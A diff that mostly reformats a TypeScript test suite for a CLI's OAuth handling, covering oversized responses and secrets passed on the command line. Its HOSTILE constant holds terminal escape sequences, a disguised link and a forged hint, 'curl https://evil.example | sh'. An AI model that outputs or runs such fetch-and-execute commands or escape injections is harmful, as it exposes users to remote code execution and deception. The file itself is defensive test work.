@@ -13,12 +13,13 @@ import { MAX_OAUTH_RESPONSE_BYTES } from "../../src/domain/limits.js"
 import { runRelay } from "../helpers/cli.js"
 import { tempHome } from "../helpers/stateHome.js"
 import { type Progress, streamHugeJson } from "../peers/hugeAnswers.js"
-import { reply, type Stub, type StubRoute, startStub, v1Card } from "../services/a2aClientHarness.js"
+import { reply, startStub, type Stub, type StubRoute, v1Card } from "../services/a2aClientHarness.js"
 
 const home = tempHome()
 const SECRET = "cmdline-secret-0123456789"
 /** What a hostile server puts in every field it can: a clear screen, an OSC 8 link, forged lines. */
-const HOSTILE = "\u001b[2J\u001b]8;;https://evil.example/\u0007click here\u001b]8;;\u0007\nerror: forged by the server\nhint: curl https://evil.example | sh"
+const HOSTILE =
+  "\u001b[2J\u001b]8;;https://evil.example/\u0007click here\u001b]8;;\u0007\nerror: forged by the server\nhint: curl https://evil.example | sh"
 
 let oauthServer: Stub
 let machinesAgent: Stub
@@ -32,12 +33,16 @@ const huge = (head: string, tail: string, declareLength = false): StubRoute => (
   streamHugeJson(res, { head, tail, size: declareLength ? ANNOUNCED : TWO_MIB, declareLength }, progress)
   return undefined
 }
-const TOKEN_HEAD = '{"token_type":"Bearer","expires_in":600,"access_token":"'
-const hugeToken = (declareLength = false) => huge(TOKEN_HEAD, '"}', declareLength)
+const TOKEN_HEAD = "{\"token_type\":\"Bearer\",\"expires_in\":600,\"access_token\":\""
+const hugeToken = (declareLength = false) => huge(TOKEN_HEAD, "\"}", declareLength)
 
 const rpcInterface = (base: string) => [{ url: `${base}/rpc`, binding: "JSONRPC" as const, version: "1.0" }]
 const withSchemes = (base: string, securitySchemes: Record<string, unknown>) => ({ ...v1Card(rpcInterface(base)), securitySchemes })
-const refuseEverything: StubRoute = () => ({ status: 401, headers: { "www-authenticate": 'Bearer realm="agent"' }, body: { error: "unauthorized" } })
+const refuseEverything: StubRoute = () => ({
+  status: 401,
+  headers: { "www-authenticate": "Bearer realm=\"agent\"" },
+  body: { error: "unauthorized" }
+})
 
 beforeAll(async () => {
   ;[oauthServer, machinesAgent, oidcAgent, plainAgent] = await Promise.all([
@@ -46,8 +51,16 @@ beforeAll(async () => {
       "GET /.well-known/agent-card.json": reply(withSchemes(base, {
         machines: { oauth2SecurityScheme: { flows: { clientCredentials: { tokenUrl: `${base}/huge-token`, scopes: {} } } } },
         announced: { oauth2SecurityScheme: { flows: { clientCredentials: { tokenUrl: `${base}/announced-token`, scopes: {} } } } },
-        device: { oauth2SecurityScheme: { flows: { deviceCode: { deviceAuthorizationUrl: `${base}/device`, tokenUrl: `${base}/token`, scopes: {} } } } },
-        hugeDevice: { oauth2SecurityScheme: { flows: { deviceCode: { deviceAuthorizationUrl: `${base}/huge-device`, tokenUrl: `${base}/token`, scopes: {} } } } }
+        device: {
+          oauth2SecurityScheme: {
+            flows: { deviceCode: { deviceAuthorizationUrl: `${base}/device`, tokenUrl: `${base}/token`, scopes: {} } }
+          }
+        },
+        hugeDevice: {
+          oauth2SecurityScheme: {
+            flows: { deviceCode: { deviceAuthorizationUrl: `${base}/huge-device`, tokenUrl: `${base}/token`, scopes: {} } }
+          }
+        }
       })),
       "POST /huge-token": hugeToken(),
       "POST /announced-token": hugeToken(true),
@@ -58,10 +71,16 @@ beforeAll(async () => {
         expires_in: 60,
         interval: 1
       }),
-      "POST /huge-device": huge('{"device_code":"d","user_code":"U","verification_uri":"https://example.com/v","expires_in":60,"pad":"', '"}'),
+      "POST /huge-device": huge(
+        "{\"device_code\":\"d\",\"user_code\":\"U\",\"verification_uri\":\"https://example.com/v\",\"expires_in\":60,\"pad\":\"",
+        "\"}"
+      ),
       "POST /token": reply({ error: "access_denied", error_description: HOSTILE }, 400),
-      "GET /.well-known/openid-configuration": huge('{"issuer":"https://example.com","token_endpoint":"https://example.com/token","pad":"', '"}'),
-      "POST /huge-revoke": huge('{"pad":"', '"}')
+      "GET /.well-known/openid-configuration": huge(
+        "{\"issuer\":\"https://example.com\",\"token_endpoint\":\"https://example.com/token\",\"pad\":\"",
+        "\"}"
+      ),
+      "POST /huge-revoke": huge("{\"pad\":\"", "\"}")
     })),
     startStub((base) => ({
       "GET /.well-known/agent-card.json": reply(withSchemes(base, {
@@ -101,7 +120,8 @@ describe("answers over the 1 MiB limit are refused at every OAuth endpoint", () 
     expect(result.code, result.stderr).toBe(3)
     expect(errorOf(result.stderr)).toMatchObject({
       code: "oauth_response_too_large",
-      message: `The authorization server at ${oauthServer.baseUrl}/huge-token sent an answer over the ${MAX_OAUTH_RESPONSE_BYTES}-byte limit; relay stopped reading it`
+      message:
+        `The authorization server at ${oauthServer.baseUrl}/huge-token sent an answer over the ${MAX_OAUTH_RESPONSE_BYTES}-byte limit; relay stopped reading it`
     })
     expect(Fs.existsSync(Path.join(home.stateDir, "sessions.json"))).toBe(false)
   })
@@ -109,13 +129,19 @@ describe("answers over the 1 MiB limit are refused at every OAuth endpoint", () 
   it("a token response whose Content-Length announces more is refused before it is read", async () => {
     const result = await login(["--client-secret", "-", "--scheme", "announced", "--json"])
     expect(result.code, result.stderr).toBe(3)
-    expect(errorOf(result.stderr)).toMatchObject({ code: "oauth_response_too_large", message: expect.stringContaining(`(${TOKEN_HEAD.length + ANNOUNCED + 2} bytes)`) })
+    expect(errorOf(result.stderr)).toMatchObject({
+      code: "oauth_response_too_large",
+      message: expect.stringContaining(`(${TOKEN_HEAD.length + ANNOUNCED + 2} bytes)`)
+    })
   })
 
   it("discovery metadata past the limit", async () => {
     const result = await login(["--client-secret", "-", "--issuer", `${oauthServer.baseUrl}/.well-known/openid-configuration`, "--json"])
     expect(result.code, result.stderr).toBe(3)
-    expect(errorOf(result.stderr)).toMatchObject({ code: "oauth_response_too_large", message: expect.stringContaining("/.well-known/openid-configuration") })
+    expect(errorOf(result.stderr)).toMatchObject({
+      code: "oauth_response_too_large",
+      message: expect.stringContaining("/.well-known/openid-configuration")
+    })
   })
 
   it("a device authorization answer past the limit", async () => {
@@ -137,12 +163,21 @@ describe("answers over the 1 MiB limit are refused at every OAuth endpoint", () 
       revocation_endpoint: `${oauthServer.baseUrl}/huge-revoke`,
       client_id: "relay-test"
     }
-    Fs.writeFileSync(file, JSON.stringify({ version: 2, sessions: { [oauthServer.baseUrl]: { agent_url: oauthServer.baseUrl, credentials, updated_at: new Date().toISOString() } } }), { mode: 0o600 })
+    Fs.writeFileSync(
+      file,
+      JSON.stringify({
+        version: 2,
+        sessions: { [oauthServer.baseUrl]: { agent_url: oauthServer.baseUrl, credentials, updated_at: new Date().toISOString() } }
+      }),
+      { mode: 0o600 }
+    )
     const result = await relay(["auth", "logout", "--url", oauthServer.baseUrl])
     expect(result.code, result.stderr).toBe(0)
     expect(result.stdout).toContain(`Logged out of ${oauthServer.baseUrl}`)
     expect(result.stdout).not.toContain("revoked")
-    expect(result.stderr).toContain(`Revocation failed: The authorization server at ${oauthServer.baseUrl}/huge-revoke sent an answer over the ${MAX_OAUTH_RESPONSE_BYTES}-byte limit`)
+    expect(result.stderr).toContain(
+      `Revocation failed: The authorization server at ${oauthServer.baseUrl}/huge-revoke sent an answer over the ${MAX_OAUTH_RESPONSE_BYTES}-byte limit`
+    )
     expect(Fs.readFileSync(file, "utf8")).not.toContain("access-token-0123456789")
   })
 })
@@ -190,13 +225,24 @@ describe("--client-secret takes no value on the command line", () => {
     const result = await relay(["auth", "login", "--url", oauthServer.baseUrl, "--client-id", "relay-test", "--client-secret", SECRET])
     expect(result.code).toBe(2)
     expect(result.stderr).toMatch(/^error: --client-secret takes no value on the command line/m)
-    expect(result.stderr).toMatch(/^hint: Pass --client-secret - and type the secret on stdin, or set it in the RELAY_CLIENT_SECRET environment variable/m)
+    expect(result.stderr).toMatch(
+      /^hint: Pass --client-secret - and type the secret on stdin, or set it in the RELAY_CLIENT_SECRET environment variable/m
+    )
     expect(result.stderr + result.stdout).not.toContain(SECRET)
     expect(oauthServer.requests.length).toBe(seen)
   })
 
   it("also with --json: invalid_input", async () => {
-    const result = await relay(["auth", "login", "--url", oauthServer.baseUrl, "--client-id", "relay-test", `--client-secret=${SECRET}`, "--json"])
+    const result = await relay([
+      "auth",
+      "login",
+      "--url",
+      oauthServer.baseUrl,
+      "--client-id",
+      "relay-test",
+      `--client-secret=${SECRET}`,
+      "--json"
+    ])
     expect(result.code).toBe(2)
     expect(errorOf(result.stderr).code).toBe("invalid_input")
     expect(result.stderr).not.toContain(SECRET)
